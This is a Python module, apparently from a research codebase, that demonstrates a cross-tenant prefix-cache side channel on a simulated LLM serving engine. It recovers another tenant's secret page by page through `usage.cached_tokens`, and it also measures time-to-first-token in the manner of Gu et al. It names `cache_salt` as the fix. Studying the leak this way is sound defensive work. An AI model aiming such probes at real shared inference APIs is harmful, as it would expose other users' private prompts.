"""The prefix probe: another tenant's prompt read back through `usage.cached_tokens`, a character (or at
larger pages a page) a round; only `cache_salt` stops it (docs/attacks.md)."""

import itertools
import random
import time
from collections.abc import Callable
from dataclasses import dataclass

from minikv.attacks.workload import MAX_SECRET_CHARS, SECRET_ALPHABET, Note, filler, note_prompt
from minikv.disagg.cluster import ClusterConfig
from minikv.engine.front_door import FrontDoor
from minikv.engine.request import Request, Response

VICTIM, ATTACKER = "alice", "mallory"
KNOWN_PREFIX = f"{VICTIM}: save key "  # what mallory knows: the note format and alice's name
AFTER_SECRET = ".\n"  # how the note goes on after the secret
PROBE_END = "\n"  # one token after the guess: the engine always computes a prompt's last token
# 1-token pages, pools of 2,048 and 4,096 tokens (>= the window), a fabric on which no probe times out
PROBE_CONFIG = ClusterConfig(page_size=1, prefill_pages=2048, decode_pages=4096, transfer_pages_per_tick=64)

# which of these probe prompts found the cache holding at least `hit_at` of their tokens?
Oracle = Callable[[list[str], int], list[bool]]


@dataclass
class ProbeOutcome:
    """The victim's answer, the attacker's last, what she recovered, the requests it took and how long."""
    victim: Response
    attacker: Response | None
    recovered: str
    probes: int  # requests the attacker sent
    seconds: float = 0.0  # the attack's wall time, the victim's first request excluded
    cycles: int | None = None  # timing oracle only: flush-refresh-probe cycles


def victim_prompt(secret: str) -> str:
    return note_prompt(VICTIM, Note("key", secret))


def page_guesses(fill: int, alphabet: str = SECRET_ALPHABET) -> list[str]:
    """Every way the next `fill` characters of the victim's prompt can read: `k` more secret
    characters, then (if the secret ends inside them) the start of what follows it."""
    guesses = []
    for k in range(fill, -1, -1):
        rest = fill - k
        if rest > len(AFTER_SECRET):
            continue  # the prompt would end before the page does: a partial page is never cached
        guesses += ["".join(chars) + AFTER_SECRET[:rest] for chars in itertools.product(alphabet, repeat=k)]
    return guesses


def recover_secret(oracle: Oracle, page_size: int, known: str = KNOWN_PREFIX,
                   alphabet: str = SECRET_ALPHABET) -> tuple[str, int]:
    """(what the oracle gave away, probes sent): extend `known` one page at a time. A round guesses
    the characters up to the next page boundary; a probe hits when the cache holds its tokens
    through that boundary. No hit, or more than one, ends the attack."""
    end = AFTER_SECRET[0]
    assert end not in alphabet, "the end marker must not be a secret character"
    recovered, probes = "", 0
    while len(recovered) <= MAX_SECRET_CHARS:
        pos = len(known) + len(recovered)
        boundary = (pos // page_size + 1) * page_size
        guesses = page_guesses(boundary - pos, alphabet)
        answers = oracle([known + recovered + g + PROBE_END for g in guesses], boundary)
        hits = [g for g, hit in zip(guesses, answers) if hit]
        probes += len(guesses)
        if len(hits) != 1:
            return recovered, probes
        if end in hits[0]:  # the guess ran past the secret's end: done
            return recovered + hits[0][: hits[0].index(end)], probes
        recovered += hits[0]
    return recovered, probes


def send_probes(server: FrontDoor, prompts: list[str], tenant: str) -> list[Response]:
    """`tenant`'s answers to `prompts` (one output token each), submitted together; any but a 200 raises."""
    answers = server.generate(prompts, max_tokens=1, tenant=tenant)
    if bad := [r for r in answers if r.status != 200]:
        raise RuntimeError(f"a probe was answered {bad[0].status}: {bad[0].error}")
    return answers


def cached_tokens_oracle(server: FrontDoor, seen: list[Response] | None = None) -> Oracle:
    """Send the probes as mallory's ordinary requests and read `usage.cached_tokens`: the exact
    oracle an OpenAI-style API hands out. Every answer is appended to `seen` when given."""

    def ask(prompts: list[str], hit_at: int) -> list[bool]:
        answers = send_probes(server, prompts, ATTACKER)
        if seen is not None:
            seen.extend(answers)
        return [r.usage.cached_tokens >= hit_at for r in answers]

    return ask


def victim_saves(server: FrontDoor, secret: str) -> Response:
    """Alice saves `secret` (her first request): the note the attacker is after."""
    alice = server.submit(Request(victim_prompt(secret), VICTIM, 32, request_id="alice-1"))
    return next(r for r in server.run() if r.request_id == alice)


def probe_attack(server: FrontDoor, secret: str, page_size: int,
                 alphabet: str = SECRET_ALPHABET) -> ProbeOutcome:
    """Alice saves `secret`; then mallory probes the cache through `usage.cached_tokens`."""
    victim = victim_saves(server, secret)
    start, seen = time.perf_counter(), []
    recovered, probes = recover_secret(cached_tokens_oracle(server, seen), page_size, alphabet=alphabet)
    return ProbeOutcome(victim, seen[-1] if seen else None, recovered, probes, time.perf_counter() - start)


# -- timing: the audit of Gu et al. -------------------------------------------------------------
def timing_audit(server: FrontDoor, rng: random.Random, samples: int,
                 prompt_chars: int = 400) -> tuple[list[float], list[float]]:
    """The attacker's times to first token (hit, miss) of Gu et al.'s two procedures, interleaved so that
    a busy machine slows both alike (docs/attacks.md)."""
    hit, miss = [], []
    for _ in range(samples):
        shared = filler(rng, prompt_chars)
        send_probes(server, [shared], VICTIM)
        hit.append(send_probes(server, [shared], ATTACKER)[0].ttft_s)
        miss.append(send_probes(server, [filler(rng, prompt_chars)], ATTACKER)[0].ttft_s)
    return hit, miss
